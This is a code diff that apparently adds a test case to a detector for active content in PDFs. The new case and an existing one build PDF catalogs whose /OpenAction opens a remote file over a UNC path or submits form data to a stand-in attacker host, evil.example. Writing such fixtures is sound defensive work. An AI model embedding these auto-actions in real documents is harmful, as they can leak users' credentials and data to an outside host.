@@ -117,6 +117,10 @@ ACTIVE = {
         ),
         "launch action",
     ),
+    "remote_goto": (
+        pdf(catalog=b"/OpenAction << /S /GoToR /F (//evil.example/share/a.pdf) /D [0 /Fit] >>"),
+        "another file",
+    ),
     "submit_form": (
         pdf(catalog=b"/OpenAction << /S /SubmitForm /F (https://evil.example/) >>"),
         "submits",
